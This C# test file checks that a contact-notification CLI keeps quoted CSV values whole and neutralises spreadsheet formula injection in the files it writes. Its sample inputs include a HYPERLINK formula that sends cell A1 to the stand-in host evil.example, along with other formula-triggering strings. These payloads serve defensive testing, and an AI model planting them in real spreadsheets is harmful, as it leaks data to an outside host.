using Contracts.Sandbox;
using Contracts.Sandbox.Engage;
using Contracts.Sandbox.Onc;

namespace Contracts.Cli.Tests;

/// <summary>
/// CSV in and out with notify as a separate process: quoted values reach the vendor whole, and every file notify
/// writes reads back row for row with no cell a spreadsheet would run as a formula.
/// </summary>
public sealed class CsvInAProcessTests : IDisposable
{
    private const string Greeting = "Hello, Ann \"the\" first\nsee you";
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    private static readonly string Campaign = OncSandboxOptions.DemoCampaign.ToString();
    private readonly string _directory = Directory.CreateTempSubdirectory("notify-process-csv-").FullName;

    public void Dispose() => Directory.Delete(_directory, recursive: true);

    private string Path(string name) => System.IO.Path.Combine(_directory, name);

    private static string Quoted(string value) => "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    private static Dictionary<string, string> OncOf(SandboxServer sandbox) => new()
    {
        ["NOTIFY_ONC__BASEURL"] = sandbox.OncBaseUrl.ToString(),
        ["NOTIFY_ONC__ACCOUNTID"] = sandbox.Options.Onc.AccountId,
        ["NOTIFY_ONC__USERNAME"] = sandbox.Options.Onc.UserName,
        ["NOTIFY_ONC__PASSWORD"] = sandbox.Options.Onc.Password,
    };

    [Fact]
    public async Task Commas_quotes_and_line_breaks_survive_the_input_file_the_wire_and_the_outcomes_file()
    {
        await using var sandbox = await SandboxServer.StartAsync();
        var accepted = Guid.NewGuid();
        var refused = OncSandboxOptions.DemoContact; // already in the campaign: the sandbox refuses it with its own code
        var input = Path("contacts.csv");
        File.WriteAllText(input, $"id,sms,text\n{accepted},+15550100001,{Quoted(Greeting)}\n{refused},\"+15550100002\",{Quoted("Hi, \"Bob\"")}\n");
        var outcomes = Path("outcomes.csv");

        var run = await NotifyProcess.RunAsync(["onc", "contacts", "add", "--campaign", Campaign, "--file", input, "--outcomes", outcomes], OncOf(sandbox));

        Assert.True(run.ExitCode == ExitCodes.PartialFailure, run.ToString());
        await using var client = sandbox.CreateOncClient();
        var stored = Assert.Single(await client.GetCampaignContactsAsync(OncSandboxOptions.DemoCampaign), c => c.Id == accepted);
        Assert.Equal(("+15550100001", Greeting), (stored.SMSCommInfo!.Destination, stored.SMSCommInfo.TextToSendOverwrite));
        var rows = CsvFileTests.ReadBack(outcomes, columns: 10);
        Assert.Equal(["item", "id", "sms", "voice", "email", "outcome", "kind", "errorCode", "requestId", "reason"], rows[0]);
        var byId = CsvFileTests.FinalRows(rows).ToDictionary(row => row[1]);
        Assert.Equal(2, byId.Count);
        Assert.Equal(("'+15550100001", "Accepted"), (byId[accepted.ToString()][2], byId[accepted.ToString()][5]));
        Assert.Equal(("'+15550100002", "Rejected", "4"), (byId[refused.ToString()][2], byId[refused.ToString()][5], byId[refused.ToString()][7]));
        Assert.Contains("error code 4", byId[refused.ToString()][9], StringComparison.Ordinal);
    }

    [Fact]
    public async Task No_file_notify_writes_holds_a_formula()
    {
        await using var sandbox = await SandboxServer.StartAsync();
        // Fields are trimmed when read, so a leading tab or carriage return goes; the formula behind it must not pass.
        string[] hostile = [Formula, "+1+1", "-2+3", "@SUM(A1)", "\t=cmd", "\r=cmd"];
        var neutralised = hostile.Select(h => "'" + h.Trim()).Order(StringComparer.Ordinal).ToList();

        // ENGAGE --failures: every hostile bNumber is refused before sending and written back.
        var numbers = Path("numbers.csv");
        File.WriteAllText(numbers, "bNumber\n" + string.Join("\n", hostile.Select(Quoted)) + "\n+15018902005\n");
        var failures = Path("failures.csv");
        var push = await NotifyProcess.RunAsync(
            ["engage", "push", "--file", numbers, "--program", EngageSandboxOptions.DemoProgram.ToString(), "--anumber", "+5014008029", "--failures", failures],
            new Dictionary<string, string>
            {
                ["NOTIFY_ENGAGE__BASEURL"] = sandbox.EngageBaseUrl.ToString(),
                ["NOTIFY_ENGAGE__CLIENTID"] = sandbox.Options.Engage.ClientId,
                ["NOTIFY_ENGAGE__CLIENTSECRET"] = sandbox.Options.Engage.ClientSecret,
            });

        // ONC --outcomes: hostile destinations, each contact written back whatever its outcome.
        var contacts = Path("contacts.csv");
        File.WriteAllText(contacts, "sms,voice,email\n" + string.Join("\n", hostile.Select(h => $"{Quoted(h)},{Quoted(h)},{Quoted(h)}")) + "\n");
        var outcomes = Path("outcomes.csv");
        var add = await NotifyProcess.RunAsync(["onc", "contacts", "add", "--campaign", Campaign, "--file", contacts, "--outcomes", outcomes], OncOf(sandbox));

        Assert.True(push.ExitCode == ExitCodes.PartialFailure, push.ToString());
        Assert.True(add.ExitCode is ExitCodes.Success or ExitCodes.PartialFailure, add.ToString());
        var failed = CsvFileTests.ReadBack(failures, columns: 6).Skip(1).Select(row => row[0]).ToList();
        Assert.Equal(neutralised, failed.Order(StringComparer.Ordinal));
        var written = CsvFileTests.FinalRows(CsvFileTests.ReadBack(outcomes, columns: 10)).ToList();
        Assert.Equal(hostile.Length, written.Count);
        Assert.Equal(neutralised, written.Select(row => row[2]).Order(StringComparer.Ordinal)); // sms
        Assert.Equal(neutralised, written.Select(row => row[4]).Order(StringComparer.Ordinal)); // email
    }
}
